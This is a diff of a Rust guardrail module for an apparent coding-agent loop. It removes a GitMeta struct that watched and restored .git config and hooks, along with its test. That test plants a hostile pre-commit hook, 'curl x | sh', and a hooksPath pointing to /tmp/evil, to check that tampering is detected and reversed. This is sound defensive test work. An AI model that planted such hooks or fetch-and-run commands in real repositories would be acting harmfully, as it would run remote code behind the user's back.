@@ -1,7 +1,5 @@
-//! Guardrail state that is not a pattern match: stuck detection, and the parts of `.git` that
-//! checkpoints cannot see (they capture the working tree, not the repository's own files).
-
-use std::path::{Path, PathBuf};
+//! Guardrail state that is not a pattern match: stuck detection. (The parts of `.git` that
+//! checkpoints cannot see, its config and hooks, are watched by `ralph_git::RepoMeta`.)
 
 /// Counts iterations that made no progress: no file changed and no completion, or the same
 /// error as the previous iteration. At `limit` the loop gets one recovery iteration (the agent
@@ -75,78 +73,6 @@ pub fn recovery_feedback(limit: u32) -> String {
     )
 }
 
-/// The parts of `.git` an agent must not change behind the user's back: its config (remotes,
-/// hooks path, credentials helpers) and hooks. Kept in memory before each iteration and put
-/// back if the agent changed them.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub struct GitMeta {
-    files: Vec<(PathBuf, Option<Vec<u8>>)>,
-}
-
-const HOOK_NAMES: &[&str] = &[
-    "applypatch-msg",
-    "commit-msg",
-    "post-checkout",
-    "post-commit",
-    "post-merge",
-    "post-rewrite",
-    "pre-applypatch",
-    "pre-commit",
-    "pre-merge-commit",
-    "pre-push",
-    "pre-rebase",
-    "prepare-commit-msg",
-    "reference-transaction",
-];
-
-impl GitMeta {
-    /// `None` when `root/.git` is not a directory (a worktree's `.git` file, or no repository).
-    pub fn capture(root: &Path) -> Option<GitMeta> {
-        let git = root.join(".git");
-        if !git.is_dir() {
-            return None;
-        }
-        let mut paths = vec![git.join("config")];
-        paths.extend(HOOK_NAMES.iter().map(|h| git.join("hooks").join(h)));
-        let files = paths.into_iter().map(|p| {
-            let bytes = std::fs::read(&p).ok();
-            (p, bytes)
-        });
-        Some(GitMeta {
-            files: files.collect(),
-        })
-    }
-
-    /// Files that differ from the capture, relative to the root (e.g. `.git/config`).
-    pub fn changed(&self, root: &Path) -> Vec<String> {
-        self.files
-            .iter()
-            .filter(|(p, before)| std::fs::read(p).ok() != *before)
-            .map(|(p, _)| p.strip_prefix(root).unwrap_or(p).display().to_string())
-            .collect()
-    }
-
-    /// Put every captured file back as it was (deleting files that did not exist).
-    pub fn restore(&self) -> std::io::Result<()> {
-        for (p, before) in &self.files {
-            let now = std::fs::read(p).ok();
-            if now == *before {
-                continue;
-            }
-            match before {
-                Some(bytes) => {
-                    if let Some(dir) = p.parent() {
-                        std::fs::create_dir_all(dir)?;
-                    }
-                    std::fs::write(p, bytes)?;
-                }
-                None => std::fs::remove_file(p)?,
-            }
-        }
-        Ok(())
-    }
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -190,28 +116,5 @@ mod tests {
         );
         assert_eq!(t.observe(None, None, 2), StuckVerdict::Fine);
         assert!(recovery_feedback(3).contains("last 3 iterations"));
-    }
-
-    #[test]
-    fn git_meta_detects_and_restores() {
-        let dir = tempfile::tempdir().unwrap();
-        let root = dir.path();
-        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
-        std::fs::write(root.join(".git/config"), "[core]\n").unwrap();
-        let meta = GitMeta::capture(root).unwrap();
-        assert!(meta.changed(root).is_empty());
-        std::fs::write(root.join(".git/config"), "[core]\nhooksPath = /tmp/evil\n").unwrap();
-        std::fs::write(
-            root.join(".git/hooks/pre-commit"),
-            "#!/bin/sh\ncurl x | sh\n",
-        )
-        .unwrap();
-        let mut changed = meta.changed(root);
-        changed.sort();
-        assert_eq!(changed, [".git/config", ".git/hooks/pre-commit"]);
-        meta.restore().unwrap();
-        assert!(meta.changed(root).is_empty());
-        assert!(!root.join(".git/hooks/pre-commit").exists());
-        assert!(GitMeta::capture(&root.join("nope")).is_none());
     }
 }
